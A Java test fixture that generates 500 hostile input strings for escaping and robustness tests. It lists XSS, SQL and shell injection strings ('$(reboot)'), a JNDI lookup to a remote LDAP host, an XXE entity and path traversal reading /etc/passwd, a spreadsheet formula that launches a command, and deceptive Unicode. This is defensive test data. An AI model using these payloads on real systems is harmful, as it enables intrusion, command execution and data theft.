package org.exactloss.testing;

import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;

/** Five hundred different texts that do harm where someone forgets to quote them. */
public final class HostileStrings {
  private static final int COUNT = 500;

  private static final List<String> MARKUP =
      List.of(
          "<script>alert(1)</script>",
          "</script><script>alert('x')//",
          "<img src=x onerror=alert(1)>",
          "<svg/onload=alert(1)>",
          "\"><b>bold</b>",
          "' onmouseover='alert(1)",
          "<!-- comment -->",
          "]]><![CDATA[x",
          "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>",
          "&lt;b&gt;&amp;&#0;&#x202e;",
          "javascript:alert(1)",
          "<a href=\"data:text/html,x\">x</a>",
          "<style>*{display:none}</style>",
          "{{7*7}}${7*7}#{7*7}<%= 7*7 %>",
          "[x](javascript:alert(1))",
          "| a | b |\n| --- | --- |");

  private static final List<String> COMMANDS =
      List.of(
          "'; DROP TABLE results; --",
          "1 OR 1=1",
          "x' UNION SELECT * FROM y --",
          "/* comment */",
          "-- comment",
          "`a` AS b",
          "a`b",
          "``",
          "`",
          "reflect('java.lang.System', 'exit', 1)",
          "$(reboot)",
          "`reboot`",
          "; reboot",
          "| reboot",
          "&& reboot",
          "%s%n%x%d",
          "%1$s {} {0}",
          "${jndi:ldap://x/y}",
          "../../etc/passwd",
          "..\\..\\windows",
          "file:///etc/passwd",
          "C:\\nul",
          "--help",
          "-",
          "--",
          "*",
          "?",
          "~root",
          "__HIVE_DEFAULT_PARTITION__");

  private static final List<String> FORMULAS =
      List.of(
          "=1+1",
          "=cmd|' /C calc'!A0",
          "+1+1",
          "-1+1",
          "@SUM(A1:A9)",
          "=HYPERLINK(\"http://x\",\"y\")",
          "\t=1+1",
          "\r=1+1",
          "=\"x\"&\"y\"",
          "'=1+1");

  private static final List<String> LITERALS =
      List.of(
          "",
          " ",
          "null",
          "NULL",
          "\"null\"",
          "\"\"",
          "\"",
          "''",
          "NaN",
          "nan",
          "Infinity",
          "-Infinity",
          "true",
          "0",
          "-0",
          "1e999",
          "0x10",
          "1,234",
          "2025-01-01",
          "undefined",
          "any slice",
          "any slice: rmse",
          "a: b",
          "rmse > 3",
          "a=b, c=d",
          "a,b",
          ",",
          ";",
          "\\",
          "\\\\",
          "\\\"",
          "\\n",
          "a\\",
          "\"a\\\"",
          "{\"a\": 1}",
          "[1, 2]",
          "}",
          "a.b",
          "a b",
          " a",
          "a ",
          "#a",
          "//a",
          "constructor",
          "__proto__",
          "toString",
          "\\u001B[2J",
          "\\u0000");

  private static final List<String> TERMINAL =
      List.of(
          "\u001B[2J",
          "\u001B[31mred\u001B[0m",
          "\u001B]0;title\u0007",
          "\u001B]8;;http://x\u001B\\link\u001B]8;;\u001B\\",
          "\u001B[1A\u001B[2K",
          "\u001BP1$r\u001B\\",
          "\u001Bc",
          "\u001B(0",
          "\u001B[6n",
          "\u009B31m",
          "\u0090x\u009C",
          "a\rb",
          "a\nb",
          "a\r\nb",
          "\n",
          "\r",
          "a\bb",
          "a\tb",
          "\t",
          "a\fb",
          "a\u000Bb",
          "a\u0085b",
          "a\u2028b\u2029c",
          "\u0007");

  private static final List<String> WORLD =
      List.of(
          "\u202Eabc",
          "abc\u202Edef\u202C",
          "\u2066a\u2069",
          "\u200Fa\u200E",
          "a\u200Bb",
          "\uFEFFa",
          "a\u00ADb",
          "a\u00A0b",
          "\u3000",
          "e\u0301",
          "\u00E9",
          "z\u0351\u0357\u0343\u030A\u0308\u0346a\u0300lgo",
          "\u0130i\u0131I",
          "\u00DF\u1E9E",
          "\u0430dmin",
          "\u6C17\u6E29",
          "\u05D0\u05D1\u05D2",
          "\u0645\u0631\u062D\u0628\u0627",
          "\uD83C\uDF21",
          "\uD83D\uDC68\u200D\uD83D\uDC69\u200D\uD83D\uDC67",
          "\uD83C\uDDFA\uD83C\uDDF8",
          "\uE000",
          "\uFFFE",
          "\uFFFF",
          "\uFFFD",
          "\uDBFF\uDFFF",
          "\uDB40\uDC41",
          "\uD800",
          "a\uDC00b",
          "\uDC00\uD800",
          "\uFF1Cscript\uFF1E",
          "\u2215etc\u2215passwd");

  private HostileStrings() {}

  /** The texts, all different; some hold lone surrogates, which no UTF-8 has. */
  public static List<String> all() {
    Set<String> texts = new LinkedHashSet<>();
    List.of(MARKUP, COMMANDS, FORMULAS, LITERALS, TERMINAL, WORLD).forEach(texts::addAll);
    for (int control = 0; control < 0xA0; control += control == 0x1F ? 0x60 : 1) {
      texts.add("c" + (char) control + "d");
      texts.add(String.valueOf((char) control));
    }
    for (int point : new int[] {0x061C, 0x180E, 0x200C, 0x2060, 0x206A, 0xFFF9, 0xE0001}) {
      texts.add("f" + Character.toString(point) + "g");
    }
    List<String> plain = new ArrayList<>(texts);
    for (int i = 0; texts.size() < COUNT; i++) {
      String left = plain.get(i % plain.size());
      texts.add(left + plain.get((7 * i + 3) % plain.size()));
    }
    return List.copyOf(texts);
  }

  /** Those that data can hold: texts that UTF-8 can write. */
  public static List<String> inData() {
    return all().stream()
        .filter(
            text ->
                text.codePoints()
                    .noneMatch(point -> Character.getType(point) == Character.SURROGATE))
        .toList();
  }
}
